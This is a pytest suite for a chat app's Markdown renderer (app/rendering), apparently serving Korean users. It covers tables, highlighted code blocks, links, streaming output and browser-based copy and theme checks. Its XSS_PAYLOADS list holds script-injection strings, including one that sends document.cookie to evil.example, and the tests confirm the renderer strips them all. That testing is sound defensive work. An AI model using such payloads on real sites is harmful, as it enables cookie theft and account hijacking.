"""Markdown rendering of replies (app/rendering): features, sanitizing, and the streaming
renderer's promise that a reply fed piece by piece ends exactly as render(full_text)."""

from __future__ import annotations

import importlib.util
import random
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.rendering import StreamingMarkdown, render
from app.rendering.markdown import render_uncached
from tests.server import CHROMIUM, CHROMIUM_FLAGS

ROOT = Path(__file__).resolve().parents[1]

ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "s", "code", "pre",
    "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td", "input",
    "div", "span", "button",
}
SAFE_ATTRIBUTES = {"class", "href", "title", "rel", "target", "start", "type", "checked",
                   "disabled", "data-copy"}


class Elements(HTMLParser):
    """Every start tag with its attributes, and the text, as a browser would parse them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def named(self, tag: str) -> list[dict[str, str]]:
        return [attrs for name, attrs in self.tags if name == tag]


def assert_safe(html: str) -> Elements:
    parsed = Elements(html)
    for tag, attrs in parsed.tags:
        assert tag in ALLOWED_TAGS, (tag, html)
        assert set(attrs) <= SAFE_ATTRIBUTES, (tag, attrs, html)
        if "href" in attrs:
            assert re.match(r"(?i)(https?|mailto):", attrs["href"]), html
            assert attrs["rel"] == "noopener noreferrer nofollow"
        if tag == "input":
            assert attrs["type"] == "checkbox" and "disabled" in attrs
        if tag == "button":
            assert attrs["type"] == "button"
    return parsed


def code_text(html: str) -> str:
    """The text of the first <pre><code>, as the copy button would take it."""
    match = re.search(r"<pre[^>]*><code>(.*?)</code></pre>", html, re.S)
    assert match, html
    return "".join(Elements(match.group(1)).text)


# --- Markdown features -------------------------------------------------------------------

def test_table_with_alignment_and_korean_cells() -> None:
    html = render("| 이름 | 점수 |\n|:--|--:|\n| 김철수 | 95 |\n| 이영희 | 88 |\n")
    parsed = assert_safe(html)
    assert [a.get("class") for a in parsed.named("th")] == ["md-align-left", "md-align-right"]
    assert len(parsed.named("tr")) == 3
    assert "<td class=\"md-align-left\">김철수</td>" in html
    assert "style" not in html  # alignment is a class: no inline styles under a strict CSP


def test_strikethrough_double_tilde_only() -> None:
    html = render("~~취소된 일정~~ 약 ~5분 뒤 ~10분 전")
    assert "<s>취소된 일정</s>" in html
    assert "약 ~5분 뒤 ~10분 전" in html


def test_task_list_checkboxes_are_disabled() -> None:
    html = render("- [ ] 장보기\n- [x] 숙제하기\n- 그냥 항목\n")
    parsed = assert_safe(html)
    boxes = parsed.named("input")
    assert len(boxes) == 2
    assert all(b["type"] == "checkbox" and "disabled" in b for b in boxes)
    assert ["checked" in b for b in boxes] == [False, True]
    assert parsed.named("ul") == [{"class": "contains-task-list"}]
    assert "장보기" in html and "숙제하기" in html and "[x]" not in html


def test_fenced_code_is_highlighted_with_label_and_copy_button() -> None:
    source = 'def 인사(이름):\n    return f"안녕하세요, {이름}님"  # 한국어 주석\n'
    html = render(f"설명입니다.\n\n```python\n{source}```\n")
    parsed = assert_safe(html)
    assert '<span class="code__lang">python</span>' in html
    assert parsed.named("button") == [{"type": "button", "class": "code__copy", "data-copy": ""}]
    assert '<span class="k">def</span>' in html          # Pygments token spans
    assert '<span class="c1"># 한국어 주석</span>' in html
    assert code_text(html) == source                      # exactly what was written


def test_unknown_language_is_a_label_without_highlighting() -> None:
    html = render("```파이썬\nprint('안녕')\n```\n")
    assert '<span class="code__lang">파이썬</span>' in html
    assert code_text(html) == "print('안녕')\n"
    assert '<span class="k' not in html and '<span class="n' not in html


def test_code_without_language_still_has_copy_button() -> None:
    for source in ("```\n한글 코드\n```\n", "    들여쓴 코드\n"):
        html = render(source)
        assert 'class="code__copy"' in html and "code__lang" not in html
        assert "한글 코드" in code_text(html) or "들여쓴 코드" in code_text(html)


def test_korean_prose_headings_lists_and_line_breaks() -> None:
    html = render("## 오늘의 요약\n\n첫째 줄\n둘째 줄\n\n1. **중요**: 내용\n2. *강조* `코드`\n")
    assert "<h2>오늘의 요약</h2>" in html
    assert "첫째 줄<br>" in html and "둘째 줄" in html
    assert "<strong>중요</strong>" in html and "<em>강조</em>" in html
    assert "<code>코드</code>" in html


def test_links_get_rel_and_only_web_schemes() -> None:
    html = render("[문서](https://example.com/문서) <mailto:a@example.com> "
                  "https://example.org/path [상대](/logout) [앵커](#top)")
    parsed = assert_safe(html)
    hrefs = [a["href"] for a in parsed.named("a")]
    assert hrefs == ["https://example.com/%EB%AC%B8%EC%84%9C", "mailto:a@example.com",
                     "https://example.org/path"]
    assert all(a["target"] == "_blank" for a in parsed.named("a"))
    assert "[상대](/logout)" in html and "[앵커](#top)" in html  # not links: shown as written


def test_images_are_links_never_loaded() -> None:
    html = render("![고양이 사진](https://tracker.example/p.png?q=비밀)\n\n"
                  "![픽셀](data:image/png;base64,iVBORw0KGgo=)")
    parsed = assert_safe(html)
    assert not parsed.named("img") and "src=" not in html
    links = parsed.named("a")
    assert len(links) == 1 and links[0]["class"] == "md-image"
    assert links[0]["href"].startswith("https://tracker.example/p.png")
    assert "고양이 사진" in html
    assert "data:image" not in " ".join(a.get("href", "") for _, a in parsed.tags)


def test_reference_definitions_are_plain_text() -> None:
    # Off on purpose (see markdown.py): a later definition would change an earlier block.
    html = render("[링크][ref]\n\n[ref]: https://example.com\n")
    assert html.startswith("<p>[링크][ref]</p>\n<p>[ref]: ")


XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "안녕 <script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">텍스트',
    "<svg onload=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">클릭</a>',
    '<div onclick="alert(1)">눌러</div>',
    "<style>body{display:none}</style>",
    "<!-- 주석 --><b>굵게</b>",
    "[클릭](javascript:alert(1))",
    "[클릭](JaVaScRiPt:alert(1))",
    "[클릭](java&#x09;script:alert(1))",
    "[클릭](&#106;avascript:alert(1))",
    "<javascript:alert(1)>",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    '[x](https://example.com "제목\\" onmouseover=\\"alert(1)")',
    '```"><script>alert(1)</script>\ncode\n```',
    '```python" onmouseover="alert(1)\ncode\n```',
    "```<img src=x onerror=alert(1)>\n<script>alert(2)</script>\n```",
    "~~~ javascript:alert(1)\n코드\n~~~",
    "`<script>alert(1)</script>`",
    "| <script>x</script> | b |\n|---|---|\n| <img src=x onerror=y> | c |",
    "- [x] <img src=x onerror=alert(1)>",
    "> <iframe src=//evil.example>",
]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payloads_do_not_survive(payload: str) -> None:
    html = render(payload)
    parsed = assert_safe(html)
    assert not re.search(r"<\s*(script|img|svg|iframe|style|object|embed)\b", html, re.I)
    assert not [name for _, attrs in parsed.tags for name in attrs if name.startswith("on")]
    # The same through the streaming renderer, one character at a time.
    streaming = StreamingMarkdown()
    for ch in payload:
        update = streaming.feed(ch)
        assert_safe(update.frozen_html_to_append + update.tail_html)
    streaming.finish()
    assert streaming.frozen_html == html


def test_raw_html_is_shown_as_text() -> None:
    html = render("<b>굵게</b> <script>alert(1)</script>")
    assert "&lt;b&gt;굵게&lt;/b&gt;" in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


# --- Streaming ---------------------------------------------------------------------------

REPLY = """\
## 파이썬으로 파일 읽기

파일을 읽는 방법은 여러 가지가 있습니다.
가장 간단한 방법은 `open()`을 쓰는 것입니다.

1. 파일 열기
2. 내용 읽기

   ```python
   with open("데이터.txt", encoding="utf-8") as f:
       내용 = f.read()

   print(내용)
   ```

3. 닫기 (with 문이 알아서 합니다)

| 모드 | 뜻 |
|------|----|
| `r` | 읽기 |
| `w` | 쓰기 |

> **참고:** 인코딩을 꼭 지정하세요.

- [x] 예제 실행
- [ ] 연습 문제

```bash
python 읽기.py
```

더 궁금한 점이 있으면 https://docs.python.org 를 보세요. ~~끝~~
"""


def feed_all(text: str, sizes: list[int]) -> tuple[StreamingMarkdown, list[str]]:
    renderer = StreamingMarkdown()
    appended: list[str] = []
    i = 0
    k = 0
    while i < len(text):
        size = sizes[k % len(sizes)]
        k += 1
        appended.append(renderer.feed(text[i:i + size]).frozen_html_to_append)
        i += size
    appended.append(renderer.finish().frozen_html_to_append)
    return renderer, appended


@pytest.mark.parametrize("sizes", [[1], [2, 5, 3], [7], [40], [len(REPLY)]])
def test_streamed_reply_ends_exactly_as_render(sizes: list[int]) -> None:
    renderer, appended = feed_all(REPLY, sizes)
    assert "".join(appended) == render(REPLY)
    assert renderer.frozen_html == render(REPLY) and renderer.tail_html == ""


def test_crlf_split_across_pieces_ends_as_render() -> None:
    text = REPLY.replace("\n", "\r\n")
    _, appended = feed_all(text, [3])
    assert "".join(appended) == render(text) == render(REPLY)


def without_token_colours(html: str) -> str:
    return re.sub(r'<span class="[a-z0-9]{1,3}">|</span>', "", html)


def test_every_intermediate_page_equals_render_of_the_text_so_far() -> None:
    """Exactly, up to the Pygments colours of an unclosed code block's last line (its
    complete lines are highlighted once, the line being written alone)."""
    renderer = StreamingMarkdown()
    for i in range(len(REPLY)):
        renderer.feed(REPLY[i])
        last_line = REPLY[: i + 1].rsplit("\n", 1)[-1]
        if re.fullmatch(r" {0,3}(`{1,2}|~{1,2})", last_line):
            continue  # a half-typed fence marker is held back (next test)
        expected = render_uncached(REPLY[: i + 1])
        assert without_token_colours(renderer.html) == without_token_colours(expected)
        if "<pre" not in renderer.tail_html:
            assert renderer.html == expected, REPLY[: i + 1]


def test_unclosed_fence_renders_as_code() -> None:
    renderer = StreamingMarkdown()
    update = renderer.feed("예제:\n\n```python\nprint('안녕')\nx = [")
    assert update.frozen_html_to_append == "<p>예제:</p>\n"
    assert '<span class="code__lang">python</span>' in update.tail_html
    assert "```" not in update.tail_html
    assert code_text(update.tail_html) == "print('안녕')\nx = ["
    assert '<span class="nb">print</span>' in update.tail_html


def test_growing_code_block_highlights_complete_lines_like_the_final_render() -> None:
    source = 'class 사용자:\n    """문서\n    문자열"""\n    이름: str = "홍길동"\n'
    renderer = StreamingMarkdown("```python\n")
    for ch in source:
        written = renderer.feed(ch).tail_html
        assert "code__stable" not in written  # the placeholder never reaches a page
    final = render("```python\n" + source)
    # All lines complete: colours exactly as in the final render, even the docstring that
    # spans lines.
    assert written == final
    assert '<span class="sd">    문자열"""</span>' in final
    renderer.feed("    나이")                        # a new line being written
    assert code_text(renderer.tail_html) == source + "    나이"
    # The complete lines keep their final colours; only the new line is highlighted alone.
    assert renderer.tail_html.startswith(final.split("</code>")[0])


def test_half_typed_fence_marker_is_held_back() -> None:
    renderer = StreamingMarkdown("설명\n\n")
    assert "`" not in renderer.feed("``").tail_html
    update = renderer.feed("`js\n")
    assert '<span class="code__lang">js</span>' in update.tail_html
    renderer.feed("let a = 1;\n``")                 # a closing fence on its way
    assert code_text(renderer.tail_html) == "let a = 1;\n"


def test_finished_blocks_are_frozen_and_not_rendered_again() -> None:
    renderer = StreamingMarkdown()
    paragraphs = [f"{n}번째 문단입니다." for n in range(1, 30)]
    for paragraph in paragraphs:
        renderer.feed(paragraph + "\n\n")
    # Only the last block is still open: the tail never holds the earlier ones.
    assert renderer.tail_html == "<p>29번째 문단입니다.</p>\n"
    assert renderer.frozen_html.count("<p>") == 28
    update = renderer.feed("다음")
    assert update.frozen_html_to_append == ""
    assert update.tail_html == "<p>29번째 문단입니다.</p>\n<p>다음</p>\n"


def test_seeded_renderer_matches_one_fed_piece_by_piece() -> None:
    """The page renders StreamingMarkdown(text_so_far); the live stream, seeded with the same
    text, must agree with it on the frozen/tail split, and both end as render()."""
    cut = REPLY.index("| 모드")
    seeded = StreamingMarkdown(REPLY[:cut])
    fed = StreamingMarkdown()
    for i in range(0, cut, 3):
        fed.feed(REPLY[i:min(i + 3, cut)])
    assert seeded.frozen_html != ""
    assert (seeded.frozen_html, seeded.tail_html) == (fed.frozen_html, fed.tail_html)
    page = seeded.frozen_html
    for i in range(cut, len(REPLY), 5):
        page += seeded.feed(REPLY[i:i + 5]).frozen_html_to_append
    page += seeded.finish().frozen_html_to_append
    assert page == render(REPLY)


def test_feed_after_finish_is_an_error() -> None:
    renderer = StreamingMarkdown("끝")
    renderer.finish()
    with pytest.raises(RuntimeError):
        renderer.feed("더")


LINES = ["", "", "", "문단 텍스트", "more *text*", "- 항목", "- [ ] 할 일", "1. 하나", "2. 둘",
         "  - 중첩", "    들여쓰기", "```", "```python", "~~~", "> 인용", "# 제목", "---", "===",
         "| a | b |", "|---|---|", "| 1 | 2 |", "* 별", "**굵게", "끝**", "[x]: https://e.com",
         "<div>", "   ```", "10. 열", "- ```", "  ```js", "http://a.b/c", "![i](https://x/y.png)",
         "1.", "-", "  ", "x = 1  # 코드"]


@settings(max_examples=300, deadline=None, derandomize=True)
@given(lines=st.lists(st.sampled_from(LINES), min_size=1, max_size=14),
       newline_at_end=st.booleans(), seed=st.integers(0, 2**16))
def test_any_split_ends_exactly_as_render(lines: list[str], newline_at_end: bool,
                                          seed: int) -> None:
    text = "\n".join(lines) + ("\n" if newline_at_end else "")
    rng = random.Random(seed)
    renderer = StreamingMarkdown()
    page = ""
    i = 0
    while i < len(text):
        j = i + rng.randint(1, 6)
        update = renderer.feed(text[i:j])
        page += update.frozen_html_to_append
        assert page == renderer.frozen_html
        i = j
    page += renderer.finish().frozen_html_to_append
    assert page == render(text)


def test_code_css_is_generated_from_the_script() -> None:
    spec = importlib.util.spec_from_file_location("build_code_css",
                                                  ROOT / "scripts" / "build_code_css.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    css = (ROOT / "static" / "css" / "code.css").read_text(encoding="utf-8")
    assert css == module.build(), "run: .venv/bin/python scripts/build_code_css.py"
    for selector in ('html[data-theme="dark"] .code .k', 'html[data-theme="light"] .code .k',
                     "@media (prefers-color-scheme: dark)"):
        assert selector in css


# --- In a real browser: copy button and themes -------------------------------------------

COPY_SOURCE = 'def 인사():\n    return "안녕하세요"\n'


def reply_page(tmp_path: Path, theme: str | None) -> str:
    """A static page with the real stylesheets and script around a rendered reply."""
    body = render("## 코드 예제\n\n설명 **굵게**.\n\n```python\n" + COPY_SOURCE + "```\n\n"
                  "| 열 | 값 |\n|---|--:|\n| 하나 | 1 |\n")
    theme_attr = f' data-theme="{theme}"' if theme else ""
    page = tmp_path / f"reply-{theme}.html"
    page.write_text(
        f'<!doctype html><html lang="ko"{theme_attr}><head><meta charset="utf-8">'
        f'<link rel="stylesheet" href="{ROOT.as_uri()}/static/css/app.css">'
        f'<link rel="stylesheet" href="{ROOT.as_uri()}/static/css/code.css">'
        f'<script src="{ROOT.as_uri()}/static/js/app.js" defer></script></head><body>'
        f'<article class="message message--assistant"><div class="message__bubble">'
        f'<div class="message__body md" id="body-1">{body}</div></div></article></body></html>',
        encoding="utf-8")
    return page.as_uri()


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    assert Path(CHROMIUM).exists(), "install Debian's chromium (make test does)"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS)
        yield browser
        browser.close()


@pytest.mark.parametrize("clipboard_api", [True, False])
def test_copy_button_copies_the_code(chromium: Any, tmp_path: Path, clipboard_api: bool) -> None:
    """With the clipboard API, and without it (plain http on a LAN address is not a
    secure context): the textarea fallback."""
    context = chromium.new_context()
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = context.new_page()
    if not clipboard_api:
        page.add_init_script("Object.defineProperty(Navigator.prototype, 'clipboard',"
                             " {get: () => undefined})")
    reader = context.new_page()  # the clipboard is the browser's, not the page's
    reader.goto(reply_page(tmp_path, "light"))
    reader.evaluate("navigator.clipboard.writeText('이전 내용')")
    page.goto(reply_page(tmp_path, None))
    page.locator(".code__copy").click()
    page.wait_for_function("document.querySelector('.code__copy').textContent === 'Copied'")
    assert reader.evaluate("navigator.clipboard.readText()") == COPY_SOURCE.rstrip("\n")
    page.wait_for_function("document.querySelector('.code__copy').textContent === 'Copy'")
    context.close()


@pytest.mark.parametrize(("system", "theme", "expected"), [
    ("light", None, "light"), ("dark", None, "dark"),
    ("light", "dark", "dark"), ("dark", "light", "light"),
])
def test_code_colours_follow_the_theme(chromium: Any, tmp_path: Path, system: str,
                                       theme: str | None, expected: str) -> None:
    context = chromium.new_context(color_scheme=system)
    page = context.new_page()
    page.goto(reply_page(tmp_path, theme))
    background = page.eval_on_selector(".code", "e => getComputedStyle(e).backgroundColor")
    keyword = page.eval_on_selector(".code .k", "e => getComputedStyle(e).color")
    assert (background, keyword) == {
        "light": ("rgb(248, 248, 248)", "rgb(0, 128, 0)"),      # Pygments "default"
        "dark": ("rgb(13, 17, 23)", "rgb(255, 123, 114)"),       # Pygments "github-dark"
    }[expected]
    if system == "dark" and theme is None:
        artifacts = ROOT / "test-artifacts"
        artifacts.mkdir(exist_ok=True)
        page.set_viewport_size({"width": 720, "height": 480})
        page.screenshot(path=str(artifacts / "markdown-dark.png"))
    context.close()
